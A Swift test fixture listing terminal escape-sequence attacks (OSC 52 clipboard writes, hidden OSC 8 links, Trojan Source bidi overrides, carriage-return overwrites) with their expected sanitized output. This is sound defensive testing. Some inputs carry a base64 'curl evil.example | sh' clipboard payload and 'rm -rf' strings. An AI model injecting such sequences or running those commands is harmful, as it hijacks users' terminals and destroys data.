import Testing

/// Real escape-sequence attacks, each with what must be left of it after sanitizing.
struct Attack: Sendable, CustomTestStringConvertible {
    let name: String
    let input: String
    let cleaned: String

    var testDescription: String { name }
}

/// Whether text can be written to a terminal without driving it: no ESC, no C1 control, no
/// bidirectional override.
func isTerminalSafe(_ text: String) -> Bool {
    !text.unicodeScalars.contains { scalar in
        let value = scalar.value
        return value == 0x1B || (0x80...0x9F).contains(value) || (0x202A...0x202E).contains(value)
            || (0x2066...0x2069).contains(value)
    }
}

let attacks: [Attack] = [
    Attack(
        name: "bidi override reversing what a line shows (Trojan Source)",
        input: "approve \u{202E}tsoc eht\u{202C} and \u{2067}isolate\u{2069} end",
        cleaned: "approve tsoc eht and isolate end"),
    Attack(
        name: "OSC 52 clipboard write ended by BEL",
        input: "hi\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}there",
        cleaned: "hithere"),
    Attack(
        name: "OSC 52 clipboard write ended by ST",
        input: "hi\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{1B}\\there",
        cleaned: "hithere"),
    Attack(
        name: "OSC 8 hyperlink hiding its target",
        input: "see \u{1B}]8;;https://evil.example/x\u{1B}\\the docs\u{1B}]8;;\u{1B}\\ now",
        cleaned: "see the docs now"),
    Attack(name: "OSC 0 window title", input: "\u{1B}]0;rm -rf ~\u{07}ok", cleaned: "ok"),
    Attack(name: "CSI 2J clear screen", input: "a\u{1B}[2Jb", cleaned: "ab"),
    Attack(name: "CSI ?1049h alternate screen", input: "a\u{1B}[?1049hb\u{1B}[?1049l", cleaned: "ab"),
    Attack(name: "SGR colours and cursor moves", input: "\u{1B}[31;1mred\u{1B}[0m\u{1B}[10;20H!", cleaned: "red!"),
    Attack(name: "ESC c full reset", input: "x\u{1B}cy", cleaned: "xy"),
    Attack(name: "ESC 7 / ESC 8 save and restore cursor", input: "a\u{1B}7b\u{1B}8c", cleaned: "abc"),
    Attack(name: "charset designation ESC ( 0", input: "a\u{1B}(0qqq\u{1B}(Bb", cleaned: "aqqqb"),
    Attack(name: "8-bit CSI 2J", input: "a\u{9B}2Jb", cleaned: "ab"),
    Attack(name: "8-bit OSC title ended by 8-bit ST", input: "\u{9D}0;owned\u{9C}ok", cleaned: "ok"),
    Attack(name: "DCS terminfo query", input: "a\u{1B}P+q544e\u{1B}\\b", cleaned: "ab"),
    Attack(name: "8-bit DCS", input: "a\u{90}1$r0m\u{9C}b", cleaned: "ab"),
    Attack(name: "APC kitty graphics payload", input: "a\u{1B}_Gf=100,a=T;iVBORw0KGgo=\u{1B}\\b", cleaned: "ab"),
    Attack(name: "8-bit APC", input: "a\u{9F}payload\u{9C}b", cleaned: "ab"),
    Attack(name: "PM and SOS", input: "a\u{1B}^private\u{1B}\\b\u{1B}Xstring\u{1B}\\c", cleaned: "abc"),
    Attack(name: "BEL does not end a DCS", input: "a\u{1B}Pdata\u{07}more\u{1B}\\b", cleaned: "ab"),
    Attack(name: "unterminated OSC swallows the rest", input: "safe\u{1B}]0;pwned title and then text", cleaned: "safe"),
    Attack(name: "unterminated CSI at the end", input: "safe\u{1B}[12;3", cleaned: "safe"),
    Attack(name: "lone ESC at the end", input: "safe\u{1B}", cleaned: "safe"),
    Attack(name: "ESC inside OSC starts a new sequence", input: "a\u{1B}]0;t\u{1B}[2Jb", cleaned: "ab"),
    Attack(name: "CSI cut short by a newline", input: "a\u{1B}[1\nb", cleaned: "a\nb"),
    Attack(name: "CAN cancels a sequence", input: "a\u{1B}[1\u{18}b", cleaned: "ab"),
    Attack(name: "carriage return overwrite trick", input: "ls -la\r\u{1B}[2Krm -rf /", cleaned: "ls -larm -rf /"),
    Attack(name: "C0 controls shown as pictures", input: "bell\u{07} nul\u{00} bs\u{08} del\u{7F}", cleaned: "bell␇ nul␀ bs␈ del␡"),
    Attack(name: "other C1 controls shown as replacement", input: "a\u{85}b\u{8D}c", cleaned: "a\u{FFFD}b\u{FFFD}c"),
    Attack(name: "lone 8-bit ST removed", input: "a\u{9C}b", cleaned: "ab"),
    Attack(name: "CR LF becomes LF", input: "one\r\ntwo\r\n", cleaned: "one\ntwo\n"),
]
